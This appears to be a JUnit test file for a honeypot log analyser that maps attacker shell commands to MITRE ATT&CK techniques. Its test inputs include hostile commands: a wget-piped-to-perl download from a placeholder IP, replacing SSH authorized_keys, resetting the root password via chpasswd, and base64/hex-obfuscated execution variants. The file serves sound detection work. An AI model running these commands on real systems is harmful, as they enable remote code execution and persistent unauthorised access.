package io.github.cowriekit.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.model.assessment.technique.TechniqueMatch;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvFileSource;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AttackRulesTest {
    private static final AttackRules RULES = AttackRules.standard();

    @ParameterizedTest
    @CsvFileSource(resources = "attack-examples.tsv", delimiter = '\t', numLinesToSkip = 1, quoteCharacter = '\u0001')
    void matchesTheExampleOfEveryRule(String rule, String command) {
        assertThat(RULES.match(command)).extracting(match -> match.rule().id()).contains(rule);
    }

    @Test
    void hasAnExampleForEveryRuleAboutCommands() throws IOException {
        String examples = Files.readString(
                Path.of("src", "test", "resources", "io", "github", "cowriekit", "analysis", "attack-examples.tsv"));
        List<String> withExample = examples.lines()
                .skip(1)
                .map(line -> line.substring(0, line.indexOf('\t')))
                .toList();

        assertThat(RULES.text()
                        .lines()
                        .skip(1)
                        .filter(line -> !line.contains("\tevent\t"))
                        .map(line -> line.substring(0, line.indexOf('\t'))))
                .containsExactlyElementsOf(withExample);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            value = {
                "uname -s -v -n -r -m ! T1082",
                "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA x\">>.ssh/authorized_keys && chmod -R go= ~/.ssh ! "
                        + "T1070.004 T1098.004 T1222.002",
                "cd ~ && chmod 700 .ssh && cat k >> .ssh/authorized_keys ! T1098.004 T1222.002",
                "echo \"root:x\"|chpasswd|bash ! T1059.004 T1098",
                "wget -qO - http://192.0.2.7/csx/perlNIK|perl ! T1059 T1105",
                "echo > /etc/hosts.deny ! T1686",
                "crontab -l ! ''",
                "lspci | grep VGA ! T1082",
                "exit ! ''",
            })
    void findsTheTechniquesOfTheReference(String command, String techniques) {
        String found = RULES.match(command).stream()
                .map(match -> match.rule().technique())
                .distinct()
                .sorted()
                .collect(Collectors.joining(" "));

        assertThat(found).isEqualTo(techniques.equals("''") ? "" : techniques);
    }

    @Test
    void keepsTheMatchedTextAndCutsItShort() {
        assertThat(RULES.match("echo x; whoami"))
                .filteredOn(match -> match.rule().id().equals("A10"))
                .singleElement()
                .extracting(TechniqueMatch::matched)
                .isEqualTo("whoami");
        assertThat(RULES.match("echo -e \"" + "\\x41".repeat(500) + "\""))
                .allSatisfy(match -> assertThat(match.matched()).hasSizeLessThanOrEqualTo(200));
    }

    @Test
    void looksAtOneCommandAtATime() {
        assertThat(RULES.match("chmod x; ls 755"))
                .extracting(match -> match.rule().id())
                .doesNotContain("A42");
        assertThat(RULES.match("echo 'chmod 755 x'")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cat /etc/crontab",
                "ls ~/.ssh/authorized_keys",
                "cat rc.local",
                "source ~/.bashrc",
                "ls /tmp/xmrig",
                "rm -rf *",
                "rm -f /tmp/ps",
                "rm -rf xmrig*",
                "rm -f /tmp/secure.sh",
                "echo top",
                "docker ps",
                "which nmap nc",
                "apt-get install nmap",
                "cat /etc/ssh/sshd_config",
            })
    void takesReadingListingAndNamingForNoChange(String command) {
        assertThat(RULES.match(command))
                .extracting(match -> match.rule().technique())
                .doesNotContain(
                        "T1098",
                        "T1098.004",
                        "T1053.003",
                        "T1037.004",
                        "T1546.004",
                        "T1496.001",
                        "T1561",
                        "T1485",
                        "T1685.006",
                        "T1046",
                        "T1057",
                        "T1072");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "whoami",
                "/usr/bin/whoami",
                "/bin/./whoami",
                "sudo whoami",
                "sudo -u root whoami",
                "env A=b whoami",
                "A=b whoami",
                "nohup whoami &",
                "busybox whoami",
                "/bin/busybox whoami",
                "sh -c 'whoami'",
                "sh -c \"sh -c 'whoami'\"",
                "su -c whoami",
                "timeout 5 whoami",
                "echo x | xargs whoami",
                "find / -name x -exec whoami {} \\;",
                "echo $(whoami)",
                "echo `whoami`",
                "echo \"a $(whoami)\"",
                "(cd /tmp && whoami)",
                "if true; then whoami; fi",
                "for i in a b; do whoami; done",
                "case $x in a) whoami;; esac",
                "echo whoami | sh",
                "sh <<< whoami",
                "sh <<EOF\nwhoami\nEOF",
                "echo d2hvYW1p | base64 -d | sh",
                "echo ZDJodllXMXAK | base64 -d | base64 -d | sh",
                "base64 -d <<< d2hvYW1p | bash",
                "eval \"$(echo d2hvYW1p | base64 --decode)\"",
                "echo 77686f616d69 | xxd -r -p | sh",
                "echo -e '\\x77\\x68\\x6f\\x61\\x6d\\x69' | sh",
                "#!/bin/sh; whoami",
                "false || whoami",
                "whoami 2>/dev/null",
                "sudo${IFS}whoami",
                "sudo$IFS$9whoami",
                "{sudo,whoami}",
                "eval 'whoami'",
                "bash -c 'eval \"whoami\"'",
                "c=whoami; $c",
                "x='env whoami'; $x",
                "a=who;b=ami;$a$b",
                "${x:-whoami}",
                "$'\\x77hoami'",
                "printf '%s' whoami | sh",
                "printf '%b' 'who\\x61mi' | sh",
                "echo whoami > a; sh a",
                "echo whoami > /tmp/a; chmod +x /tmp/a; /tmp/a",
                "cat > x.sh <<E\nwhoami\nE\nsh x.sh",
                "echo d2hvYW1p > /tmp/b; base64 -d /tmp/b | sh",
                "echo d2hvYW1p > /tmp/b; base64 -d < /tmp/b | sh",
                "echo whoami | (sh)",
                "{ echo whoami; } | sh",
                "if true; then echo whoami; fi | sh",
                "echo whoami | xargs -I% sh -c %",
                "sudo A=b whoami",
                "/bin/sh -c -- 'whoami'",
                "env -S 'whoami'",
                "pkexec whoami",
                "/usr/sbin/../bin/whoami",
                "at now <<< whoami",
                "echo \"${x:-$(whoami)}\"",
                "$(which whoami)",
                "function q { whoami; }; q",
                "alias q='whoami'; q",
                "python3 -c 'import os; os.system(\"whoami\")'",
                "awk 'BEGIN{system(\"whoami\")}'",
            })
    void seesTheProgramThatRuns(String command) {
        assertThat(RULES.match(command))
                .extracting(match -> match.rule().technique())
                .contains("T1033");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "$(",
                "`",
                "<<a ",
                "${",
                "'\"",
                "((",
                "echo \\x41 | ",
                "a=$a$a;",
                "sh -c \"sh -c '",
                ";;case x in ",
                ">>",
                "\n<<x\n",
                "{a,b} ",
                "${IFS}",
                "${x:-$(",
                "$'\\",
                "echo a>b;sh b;",
                "xargs -I% ",
                "echo a|xargs ",
                "/???/?????? ",
                "base64 -d <<< QUFB | ",
                "cd /tmp;cat a b c;",
                "(cd /tmp;",
                "cd a/",
            })
    @Tag("slow")
    void staysLinearWhateverALineHolds(String part) {
        // a quadratic reader would need minutes for this, and a naive one the heap
        String line = part.repeat(200_000 / part.length());

        assertThat(RULES.match(line)).hasSizeLessThan(20);
    }
}
